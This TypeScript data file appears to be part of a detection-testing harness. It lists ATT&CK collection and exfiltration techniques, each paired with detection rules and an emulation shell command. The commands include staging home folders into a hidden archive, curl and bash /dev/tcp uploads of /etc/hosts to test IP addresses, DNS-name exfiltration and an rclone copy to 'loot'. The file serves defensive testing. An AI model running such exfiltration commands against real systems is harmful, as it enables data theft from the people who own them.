import type { Technique } from '../contract.ts';

/** Data gathered and taken away (ATT&CK TA0009, TA0010). */
export const collection: readonly Technique[] = [
  {
    id: 'T1005',
    name: 'Whole system searched for databases',
    rules: ['process/files-searched-widely'],
    act: 'find /srv -name "*.sql" -o -name "*.sqlite"',
  },
  {
    id: 'T1074.001',
    name: 'Homes packed into a temporary folder',
    rules: ['process/data-staged'],
    act: 'tar czf /tmp/.h.tgz /home/ada',
    cleanUp: 'rm -f /tmp/.h.tgz',
  },
  {
    id: 'T1560.001',
    name: 'Archive with a password',
    rules: ['process/archive-with-password'],
    act: 'zip -q -r -P secret /srv/a.zip /srv/files',
    cleanUp: 'rm -f /srv/a.zip',
    needs: ['zip'],
  },
  {
    id: 'T1113',
    name: 'Picture of the screen taken',
    rules: ['process/screen-or-clipboard-taken'],
    act: 'pretend /opt/tools/import; /opt/tools/import -window root /tmp/s.png',
    cleanUp: 'rm -rf /opt/tools',
  },
  {
    id: 'T1115',
    name: 'Clipboard taken',
    rules: ['process/screen-or-clipboard-taken'],
    act: 'pretend /opt/tools/xclip; /opt/tools/xclip -selection clipboard -o',
    cleanUp: 'rm -rf /opt/tools',
  },
  {
    id: 'T1039',
    name: 'Share of another host mounted',
    rules: ['network/remote-share-mounted'],
    act: 'pretend /opt/tools/mount.nfs; /opt/tools/mount.nfs 10.9.3.1:/home /mnt',
    cleanUp: 'rm -rf /opt/tools',
  },
  {
    id: 'T1041',
    name: 'More than 10 MB sent to one outside address',
    rules: ['network/bulk-sent-outside', 'network/flow-bulk-sent'],
    act: 'head -c 12000000 /dev/zero > /srv/bulk; curl -s -m 20 --data-binary @/srv/bulk http://203.0.113.77/in',
    cleanUp: 'rm -f /srv/bulk',
  },
  {
    id: 'T1048.003',
    name: 'File sent with curl',
    rules: ['network/file-sent-by-web-tool'],
    act: 'curl -s -m 5 -F file=@/etc/hosts http://198.51.100.9/up',
  },
  {
    id: 'T1048.003',
    name: 'Data sent in names that are looked up',
    rules: ['network/data-in-names', 'network/many-text-records', 'network/names-not-there'],
    act: "bash -c 'for c in $(head -c 20 /etc/hostname | xxd -p -c 4); do getent hosts $c.t.example; done; ping -c 1 -W 1 $(hostname).t.example'",
  },
  {
    id: 'T1048',
    name: 'Archive passed to netcat through the shell',
    rules: ['network/encrypted-netcat', 'network/shell-connected'],
    act: 'bash -c "tar c /etc/hosts | base64 > /dev/tcp/198.51.100.9/9001"; bash -c "cat /etc/hosts > /dev/tcp/198.51.100.9/9001"',
  },
  {
    id: 'T1567.002',
    name: 'Files copied to a cloud store',
    rules: ['network/copied-to-cloud'],
    act: 'pretend /opt/tools/rclone; /opt/tools/rclone copy /srv/files remote:loot',
    cleanUp: 'rm -rf /opt/tools',
  },
  {
    id: 'T1567',
    name: 'Text sent to a paste service',
    rules: ['network/data-over-service'],
    act: 'curl -s -k -m 5 --resolve transfer.sh:443:198.51.100.9 https://transfer.sh/x',
  },
];
